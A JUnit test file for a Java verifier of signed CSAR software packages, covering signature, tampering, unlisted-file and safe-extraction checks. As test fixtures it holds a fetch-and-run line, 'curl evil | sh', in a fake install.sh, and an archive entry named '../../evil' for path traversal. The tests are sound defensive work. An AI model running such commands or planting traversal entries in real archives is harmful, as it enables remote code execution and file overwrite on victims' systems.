package org.veripack.core.csar;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.veripack.core.csar.Fixtures.E;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.veripack.core.ArtifactSink;
import org.veripack.core.FindingCode;
import org.veripack.core.PackageFormat;
import org.veripack.core.PackageRejectedException;
import org.veripack.core.Verdict;
import org.veripack.core.VerificationReport;
import org.veripack.core.VerifiedPackage;
import org.veripack.core.sign.CsarSigner;

/** Option 2, verify-while-extract, and the detached format: seed tests a)/b) per format. */
class CsarFormatsTest {
    @TempDir Path tmp;

    /** Records what the verifier hands to the sink. */
    static class RecordingSink implements ArtifactSink {
        final Map<String, byte[]> files = new LinkedHashMap<>();
        final Map<String, Integer> modes = new LinkedHashMap<>();
        final Map<String, String> links = new LinkedHashMap<>();
        final List<String> dirs = new ArrayList<>();

        @Override public void directory(String path, int mode) { dirs.add(path); }

        @Override public OutputStream file(String path, int mode, long sizeBytes) {
            modes.put(path, mode);
            return new ByteArrayOutputStream() {
                @Override public void close() { files.put(path, toByteArray()); }
            };
        }

        @Override public void symlink(String path, String target) { links.put(path, target); }

        boolean empty() { return files.isEmpty() && links.isEmpty() && dirs.isEmpty(); }
    }

    private Path option2() throws IOException {
        Path out = tmp.resolve("acme-mme-2.1.zip");
        Fixtures.signer(Fixtures.LEAF).build().writeOption2(Fixtures.packageDir(tmp), out);
        return out;
    }

    @Test
    void genuineOption2IsAccepted() throws Exception {
        VerificationReport r = Fixtures.verifier().verifyCsar(option2());
        assertEquals(Verdict.ACCEPTED, r.verdict(), r::toString);
        assertEquals(PackageFormat.CSAR_OPTION_2, r.format());
        assertEquals("2.1", r.identity().orElseThrow().version());
    }

    @Test
    void option2WithTamperedInnerCsarIsRejected() throws Exception {
        Path outer = option2();
        Path tampered = Fixtures.rewrite(outer, tmp.resolve("t.zip"), l -> Fixtures.replace(l, "acme-mme-2.1.csar", e -> {
            byte[] d = e.data().clone();
            d[d.length / 2] ^= 0x10;
            return e.withData(d);
        }));
        VerificationReport r = Fixtures.verifier().verifyCsar(tampered);
        assertEquals(Verdict.REJECTED, r.verdict());
        assertTrue(r.has(FindingCode.SIGNATURE_INVALID), r::toString);
    }

    @Test
    void option2WithoutCmsIsSignatureMissingAndExtraFileIsUnlisted() throws Exception {
        Path outer = option2();
        Path stripped = Fixtures.rewrite(outer, tmp.resolve("s.zip"), l -> {
            l.remove(Fixtures.indexOf(l, "acme-mme-2.1.cms"));
            l.add(E.file("install.sh", "curl evil | sh"));
            return l;
        });
        VerificationReport r = Fixtures.verifier().verifyCsar(stripped);
        assertTrue(r.has(FindingCode.SIGNATURE_MISSING), r::toString);
        assertTrue(r.has(FindingCode.ARTIFACT_UNLISTED), r::toString);
    }

    @Test
    void extractStreamsEveryArtifactOnceWithItsMode() throws Exception {
        RecordingSink sink = new RecordingSink();
        VerifiedPackage vp = Fixtures.verifier().verifyAndExtract(Fixtures.genuineCsar(tmp), sink);
        assertEquals("acme-mme", vp.identity().name());
        assertArrayEquals("#!/bin/sh\necho mme running\n".getBytes(StandardCharsets.UTF_8), sink.files.get("Files/bin/mmed"));
        assertEquals(0755, sink.modes.get("Files/bin/mmed"));
        assertEquals("mmed", sink.links.get("Files/bin/mme"));
        assertTrue(sink.dirs.indexOf("Files") < sink.dirs.indexOf("Files/bin"));
        assertFalse(sink.files.keySet().stream().anyMatch(p -> p.endsWith(".mf")));
        assertTrue(new String(vp.manifestBytes(), StandardCharsets.UTF_8).contains("-----BEGIN CMS-----"));
        assertEquals(vp.artifacts(), vp.report().artifacts());
    }

    @Test
    void extractOfOption2Works() throws Exception {
        RecordingSink sink = new RecordingSink();
        VerifiedPackage vp = Fixtures.verifier().verifyAndExtract(option2(), sink);
        assertEquals(PackageFormat.CSAR_OPTION_2, vp.report().format());
        assertTrue(sink.files.containsKey("Files/mme.conf"));
    }

    @Test
    void extractOfOption2SpoolsTheInnerCsarOnlyInTheSinksScratchDirectory() throws Exception {
        Path scratch = Files.createDirectory(tmp.resolve("staging-work"));
        List<String> spooledWhileWriting = new ArrayList<>();
        RecordingSink sink = new RecordingSink() {
            @Override public Path scratchDirectory() { return scratch; }

            @Override public OutputStream file(String path, int mode, long sizeBytes) {
                try (var listing = Files.list(scratch)) {
                    listing.forEach(p -> spooledWhileWriting.add(p.getFileName().toString()));
                } catch (IOException e) {
                    throw new java.io.UncheckedIOException(e);
                }
                return super.file(path, mode, sizeBytes);
            }
        };
        Fixtures.verifier().verifyAndExtract(option2(), sink);
        assertTrue(spooledWhileWriting.stream().anyMatch(n -> n.startsWith("veripack-inner-")), spooledWhileWriting.toString());
        try (var listing = Files.list(scratch)) {
            assertEquals(0, listing.count(), "the spool is deleted before verifyAndExtract returns");
        }
    }

    @Test
    void extractNeverWritesWhenTheSignatureFails() throws Exception {
        Path csar = Fixtures.rewrite(Fixtures.genuineCsar(tmp), tmp.resolve("e.csar"), l -> Fixtures.replace(l,
                Fixtures.manifestName(l), e -> e.withData(e.text().replace("acme-mme", "acme-mmf").getBytes(StandardCharsets.UTF_8))));
        RecordingSink sink = new RecordingSink();
        PackageRejectedException ex = assertThrows(PackageRejectedException.class,
                () -> Fixtures.verifier().verifyAndExtract(csar, sink));
        assertTrue(ex.report().has(FindingCode.SIGNATURE_INVALID));
        assertTrue(sink.empty(), "sink received data before the signature verified");
    }

    @Test
    void extractOfTamperedArtifactIsRejectedWithTheFullReport() throws Exception {
        Path csar = Fixtures.rewrite(Fixtures.genuineCsar(tmp), tmp.resolve("t.csar"), l -> Fixtures.replace(l,
                "Files/mme.conf", e -> e.withData("plmn: 99999\n".getBytes(StandardCharsets.UTF_8))));
        PackageRejectedException ex = assertThrows(PackageRejectedException.class,
                () -> Fixtures.verifier().verifyAndExtract(csar, new RecordingSink()));
        assertTrue(ex.report().has(FindingCode.DIGEST_MISMATCH));
        assertTrue(ex.report().identity().isPresent());
    }

    @Test
    void extractOfUnsafeArchiveWritesNothing() throws Exception {
        Path csar = Fixtures.rewrite(Fixtures.genuineCsar(tmp), tmp.resolve("u.csar"), l -> {
            l.add(E.file("../../evil", "x"));
            return l;
        });
        RecordingSink sink = new RecordingSink();
        assertThrows(PackageRejectedException.class, () -> Fixtures.verifier().verifyAndExtract(csar, sink));
        assertTrue(sink.empty());
    }

    @Test
    void detachedSignatureSeedTests() throws Exception {
        Path file = Files.writeString(tmp.resolve("mme.tar"), "payload bytes\n".repeat(1000));
        Path sig = tmp.resolve("mme.tar.p7s");
        CsarSigner.writeDetached(Fixtures.LEAF.identity(Fixtures.CA.certificate()), Fixtures.CLOCK, file, sig);
        VerificationReport ok = Fixtures.verifier().verifyDetached(file, sig);
        assertEquals(Verdict.ACCEPTED, ok.verdict(), ok::toString);
        assertEquals(PackageFormat.DETACHED_CMS, ok.format());
        assertTrue(ok.packageSha256().isPresent());
        Files.writeString(file, "payload bytes\n".repeat(999) + "payload bytez\n");
        VerificationReport bad = Fixtures.verifier().verifyDetached(file, sig);
        assertEquals(Verdict.REJECTED, bad.verdict());
        assertTrue(bad.has(FindingCode.SIGNATURE_INVALID), bad::toString);
    }

    /** A symbolic link given as the detached content is followed: the report names the target's bytes and mode. */
    @Test
    void detachedContentThroughASymlinkReportsTheTargetsMode() throws Exception {
        Path file = Files.writeString(tmp.resolve("mme.tar"), "payload bytes\n".repeat(100));
        Files.setPosixFilePermissions(file, java.nio.file.attribute.PosixFilePermissions.fromString("rw-r-----"));
        Path sig = tmp.resolve("mme.tar.p7s");
        CsarSigner.writeDetached(Fixtures.LEAF.identity(Fixtures.CA.certificate()), Fixtures.CLOCK, file, sig);
        Path link = Files.createSymbolicLink(tmp.resolve("current.tar"), file.getFileName());
        VerificationReport r = Fixtures.verifier().verifyDetached(link, sig);
        assertEquals(Verdict.ACCEPTED, r.verdict(), r::toString);
        assertEquals(0640, r.artifacts().get(0).mode());
        assertEquals(Fixtures.verifier().verifyDetached(file, sig).packageSha256(), r.packageSha256());
    }

    @Test
    void signerOutputIsDeterministicApartFromTheSignature() throws Exception {
        Path dir = Fixtures.packageDir(tmp);
        Path a = tmp.resolve("a.csar");
        Path b = tmp.resolve("b.csar");
        Fixtures.signer(Fixtures.LEAF).build().writeOption1(dir, a);
        Fixtures.signer(Fixtures.LEAF).build().writeOption1(dir, b);
        List<E> ea = Fixtures.read(a);
        List<E> eb = Fixtures.read(b);
        assertEquals(ea.stream().map(E::name).toList(), eb.stream().map(E::name).toList());
        for (int i = 0; i < ea.size(); i++) {
            String ta = ea.get(i).text();
            String tb = eb.get(i).text();
            if (ea.get(i).name().endsWith(".mf")) {
                ta = ta.substring(0, ta.indexOf("-----BEGIN CMS-----"));
                tb = tb.substring(0, tb.indexOf("-----BEGIN CMS-----"));
            }
            assertEquals(ta, tb, ea.get(i).name());
            assertEquals(ea.get(i).unixMode(), eb.get(i).unixMode());
        }
    }
}
